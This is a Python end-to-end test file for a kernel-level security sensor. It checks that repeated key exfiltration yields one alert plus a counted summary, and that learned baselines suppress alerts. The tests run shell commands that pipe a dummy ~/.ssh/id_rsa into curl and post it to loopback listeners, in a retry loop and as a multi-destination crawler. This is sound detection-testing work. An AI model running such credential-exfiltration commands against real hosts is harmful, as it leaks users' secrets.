#!/usr/bin/env python3
"""End-to-end tests of rate limiting across a family (issue 5): a retry loop or
a crawler gives one alert and a summary with the count, not one alert per try.
Real kernel, real bash, cat and curl, loopback only, built-in rules.

  ratelimit_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as its own test in
suite 'e2e'. They need root and a build with the sensor; otherwise they exit
77 (skip), or 1 when CI=true. See README.md in this directory.
"""
import json
import os
import shutil
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402

BW = ""
ROOT = ""

# A dummy secret: not a real key.
DUMMY_KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
QyNTUxOQAAACBiYXJid2lyZS1yYXRlLWxpbWl0LXRlc3Qta2V5LW5vdC1yZWFsAAAAAA==
-----END OPENSSH PRIVATE KEY-----
"""

ITERATIONS = 50


def which_real(name):
    p = shutil.which(name, path="/usr/bin:/bin")
    if p is None:
        h.skip_or_fail(f"{name} is not installed (these tests run the real {name}; apt-get install {name})")
    return os.path.realpath(p)


def make_home(ws):
    """<ws>/home with ~/.ssh/id_rsa (DUMMY_KEY); returns its realpath."""
    home = ws.path("home")
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    h.write_file(os.path.join(home, ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
    return os.path.realpath(home)


def shell_env(home):
    return {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}


def split(lines_json):
    """(alerts, summaries) from a list of JSON objects."""
    alerts = [x for x in lines_json if x.get("type") != "summary"]
    summaries = [x for x in lines_json if x.get("type") == "summary"]
    return alerts, summaries


def dump(objs):
    return "\n".join(json.dumps(o, sort_keys=True) for o in objs)


def settle(sensor, leader, want, timeout=10.0):
    """Wait until the sensor has printed `want` alerts of the session (events are
    drained every 100 ms), then a little longer so that late ones would show."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and len(sensor.alerts_in_session(leader)) < want:
        time.sleep(0.05)
    time.sleep(0.5)


def replay(trace):
    p = subprocess.run([BW, "replay", trace, "--format", "json"], capture_output=True, text=True, timeout=120)
    check(p.returncode == 0, f"replay of the recording exited {p.returncode}; stderr:\n{p.stderr}")
    return [json.loads(l) for l in p.stdout.splitlines() if l.strip()]


def repeats_in_trace(trace, leader, comm, ports, alert):
    """What a summary must count, from the recording: the network events (connects and,
    since issue 12, the sends the kernel shipped: about one per connection, the rest
    folded in the kernel) of the processes exec'd as `comm` in session `leader` to
    `ports`, less the alerted one. Returns (count, distinct senders, distinct ports)."""
    events = h.read_trace(trace)
    pids = {e["pid"] for e in events if e.get("kind") == "exec" and e.get("comm") == comm and e.get("sid") == leader}
    nets = sorted((e for e in events if e.get("kind") in ("connect", "send") and e.get("pid") in pids
                   and e.get("port") in ports), key=lambda e: e["ts"])
    check(nets and nets[0]["ts"] == alert["ts_ns"], f"the alert is not the first network event of the session's "
                                                    f"{comm}: {alert.get('ts_ns')} vs {nets[:1]}")
    rest = nets[1:]
    print(f"trace: {len(nets)} network events of {len(pids)} {comm} processes "
          f"({sum(1 for e in nets if e['kind'] == 'connect')} connects, {sum(1 for e in nets if e['kind'] == 'send')} sends)")
    return len(rest), len({e["pid"] for e in rest}), len({e["port"] for e in rest})


def case_retry_loop():
    """`for i in $(seq 50); do cat $HOME/.ssh/id_rsa | curl --data-binary @- http://127.0.0.1:PORT/; done`:
    50 curls send the key. One alert (the first curl's connect, relation sibling), no other alert
    of the session while the sensor runs, and when it stops one summary of the same incident
    counting every other network event of the curls: since issue 12 each curl's send is one too
    (so at least 49 connects and 49 sends, from the 50 processes), exactly as many as the
    recording holds, 1 destination. The recording replays to the same alert and summary."""
    h.require_root_and_sensor()
    which_real("curl"), which_real("cat"), which_real("bash")
    homes = {}

    def prepare(ws):
        homes["home"] = make_home(ws)
        return None  # built-in rules

    with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
        home = homes["home"]
        key = os.path.join(home, ".ssh", "id_rsa")
        sh = h.Shell(f'for i in $(seq {ITERATIONS}); do cat $HOME/.ssh/id_rsa | curl -sS -o /dev/null '
                     f'--max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/; done', env=shell_env(home))
        sh.wait(timeout=60)
        got = [b for b in lst.bodies() if b == DUMMY_KEY.encode()]
        check(len(got) == ITERATIONS, f"the listener got the key {len(got)} times, expected {ITERATIONS}")
        settle(sensor, sh.leader, 1)
        during = sensor.alerts_in_session(sh.leader)
        check(len(during) == 1, f"while running: expected 1 alert of session {sh.leader}, got {len(during)}:\n"
                                f"{dump(during)}")
        sensor.stop_cleanly()
        alerts = sensor.alerts_in_session(sh.leader)
        check(len(alerts) == 1, f"expected 1 alert of session {sh.leader}, got {len(alerts)}:\n{dump(alerts)}")
        a = alerts[0]
        check(a.get("relation") == "sibling", f"relation {a.get('relation')!r}, expected sibling: {json.dumps(a)}")
        check((a.get("file") or {}).get("path") == key, f"file {a.get('file')}, expected {key}")
        check((a.get("process") or {}).get("comm") == "curl", f"process {a.get('process')}, expected curl")
        check(isinstance(a.get("incident"), int) and a["incident"] > 0, f"no incident id: {json.dumps(a)}")
        check("repeats" not in a, f"the first alert of an incident carries no repeats: {json.dumps(a)}")
        _, summaries = split(sensor.alerts())
        mine = [s for s in summaries if s.get("incident") == a["incident"]]
        check(len(mine) == 1, f"expected 1 summary of incident {a['incident']}, got {len(mine)}:\n{dump(summaries)}")
        s = mine[0]
        r = s.get("repeats") or {}
        count, senders, _ = repeats_in_trace(ws.trace, sh.leader, "curl", {lst.port}, a)
        check(count >= 2 * (ITERATIONS - 1), f"the recording holds {count} repeats, expected at least "
                                             f"{2 * (ITERATIONS - 1)} (each curl's connect and send)")
        check(r.get("count") == count, f"summary counts {r.get('count')}, expected {count}: {json.dumps(s)}")
        check(r.get("processes") == senders and senders >= ITERATIONS - 1,
              f"summary: {r.get('processes')} processes, expected {senders}: {json.dumps(s)}")
        check(r.get("destinations") == 1, f"summary: {r.get('destinations')} destinations, expected 1")
        check(s.get("ended") == "flushed", f"summary ended {s.get('ended')!r}, expected flushed (sensor stopped)")
        check(s.get("scope") == {"kind": "session", "id": sh.leader}, f"summary scope {s.get('scope')}, expected "
                                                                      f"session {sh.leader}")
        check((s.get("file") or {}).get("path") == key, f"summary file {s.get('file')}")
        check(s.get("alert_ts_ns") == a.get("ts_ns"), f"summary alert_ts_ns {s.get('alert_ts_ns')} is not the "
                                                      f"alert's ts_ns {a.get('ts_ns')}")
        check(a["ts_ns"] < r.get("first_ts_ns", 0) <= r.get("last_ts_ns", 0) <= s.get("ts_ns", 0),
              f"summary times out of order: {json.dumps(s)}")
        # the recording replays to the same alert and summary
        ra, rs = split(replay(ws.trace))
        ra = [x for x in ra if h.in_session(x, sh.leader)]
        rs = [x for x in rs if x.get("incident") == a["incident"]]
        check(ra == alerts, f"replayed alerts differ:\nlive:\n{dump(alerts)}\nreplay:\n{dump(ra)}")
        check(rs == mine, f"replayed summary differs:\nlive:\n{dump(mine)}\nreplay:\n{dump(rs)}")
        print(f"retry loop: 1 alert, summary counts {r['count']} repeats from {r['processes']} processes")


def case_crawler():
    """One curl reads the key itself and posts it to 5 listeners (a crawler): one alert
    (relation self, the first connect) and, at stop, a summary counting every other
    network event of curl, from 1 process: since issue 12 each connection's send is one
    too, so 4 connects and 5 sends (as many as the recording holds) to 5 destinations."""
    h.require_root_and_sensor()
    which_real("curl"), which_real("bash")
    homes = {}

    def prepare(ws):
        homes["home"] = make_home(ws)
        return None

    extra = []
    try:
        with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
            extra = [h.HttpListener("127.0.0.1") for _ in range(4)]
            ports = [lst.port] + [x.port for x in extra]
            home = homes["home"]
            urls = " ".join(f"http://127.0.0.1:{p}/" for p in ports)
            sh = h.Shell(f'curl -sS -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null '
                         f'--max-time 10 --data-binary @$HOME/.ssh/id_rsa {urls}', env=shell_env(home))
            sh.wait(timeout=60)
            settle(sensor, sh.leader, 1)
            sensor.stop_cleanly()
            alerts = sensor.alerts_in_session(sh.leader)
            check(len(alerts) == 1, f"expected 1 alert of session {sh.leader}, got {len(alerts)}:\n{dump(alerts)}")
            a = alerts[0]
            check(a.get("relation") == "self", f"relation {a.get('relation')!r}, expected self")
            _, summaries = split(sensor.alerts())
            mine = [s for s in summaries if s.get("incident") == a.get("incident")]
            check(len(mine) == 1, f"expected 1 summary of incident {a.get('incident')}, got:\n{dump(summaries)}")
            r = mine[0].get("repeats") or {}
            count, senders, dests = repeats_in_trace(ws.trace, sh.leader, "curl", set(ports), a)
            check(count >= 4 + 5, f"the recording holds {count} repeats, expected 4 connects and 5 sends at least")
            check(r.get("count") == count and r.get("destinations") == dests == len(ports) and r.get("processes") == 1,
                  f"summary: expected {count} repeats to {len(ports)} destinations from 1 process: {json.dumps(mine[0])}")
            seen = {(a["destination"]["port"])} | {mine[0]["last_destination"]["port"]}
            check(seen <= set(ports), f"destinations {seen} are not the listeners {ports}")
    finally:
        for x in extra:
            x.close()


def case_learned_retry_loop():
    """The retry loop, learned first (`barbwire learn` over 3 tries of the same
    `cat | curl` to the same listener), then run 50 times under `run --baseline`:
    no alert AND no summary of the session, because the baseline is applied before
    rate limiting (a quieted correlation opens no incident). The stop line says the
    baseline saw and suppressed at least 50 correlations. Positive control in the
    same sensor: python (not learned) reads the same key and connects: an alert
    whose baseline verdict is "new"."""
    h.require_root_and_sensor()
    which_real("curl"), which_real("cat"), which_real("bash")
    ws = h.Workspace()
    lst = h.HttpListener("127.0.0.1")
    learner = sensor = None
    try:
        home = make_home(ws)
        base = ws.path("baseline.json")

        def loop(n):
            return h.Shell(f'for i in $(seq {n}); do cat $HOME/.ssh/id_rsa | curl -sS -o /dev/null '
                           f'--max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/; done', env=shell_env(home))

        learner = h.Learner(BW, base)
        learner.start().wait_ready()
        loop(3).wait(timeout=60)
        time.sleep(0.5)  # events are drained every 100 ms
        learner.stop_cleanly()
        check(learner.wait_stderr("barbwire: learned ", timeout=1) is not None,
              f"learn printed no summary:\n{learner.stderr()}")
        with open(base) as f:
            doc = json.load(f)
        curl = which_real("curl")
        learned = [e for e in doc.get("entries", []) if e.get("exe") == curl and e.get("port") == lst.port]
        check(learned, f"the baseline has no entry for {curl} to port {lst.port}: {json.dumps(doc)[:2000]}")

        sensor = h.Sensor(BW, None, extra=("--baseline", base))
        sensor.start().wait_ready()
        sh = loop(ITERATIONS)
        sh.wait(timeout=90)
        got = [b for b in lst.bodies() if b == DUMMY_KEY.encode()]
        check(len(got) == 3 + ITERATIONS, f"the listener got the key {len(got)} times, expected {3 + ITERATIONS}")
        key = os.path.join(home, ".ssh", "id_rsa")
        actor = h.Actor(h.read_snippet(key) + h.tcp_connect_snippet("127.0.0.1", lst.port), new_session=True)
        actor.run()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and not sensor.alerts_in_session(actor.timeout_pid):
            time.sleep(0.05)
        sensor.stop_cleanly()
        quiet = sensor.alerts_in_session(sh.leader)
        check(quiet == [], f"the learned retry loop alerted:\n{dump(quiet)}")
        _, summaries = split(sensor.alerts())
        mine = [x for x in summaries if (x.get("scope") or {}).get("id") == sh.leader]
        check(mine == [], f"a summary counted the quieted retry loop:\n{dump(mine)}")
        control = [a for a in sensor.alerts_in_session(actor.timeout_pid) if a.get("type") != "summary"]
        check(len(control) == 1, f"positive control: expected 1 alert of python's session, got:\n{dump(control)}")
        check(control[0].get("baseline") == "new", f"control verdict {control[0].get('baseline')!r}, expected new")
        line = sensor.wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
        check(line is not None, f"no baseline summary line at stop:\n{sensor.stderr()}")
        seen = int(line.split(": ")[2].split(" seen")[0])
        check(seen >= ITERATIONS, f"baseline line says {seen} seen, expected at least {ITERATIONS}: {line}")
        print(f"learned retry loop: 0 alerts, 0 summaries; {line}")
    finally:
        for x in (learner, sensor):
            if x is not None:
                x.kill()
        lst.close()
        ws.cleanup()


if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "ratelimit_test"))
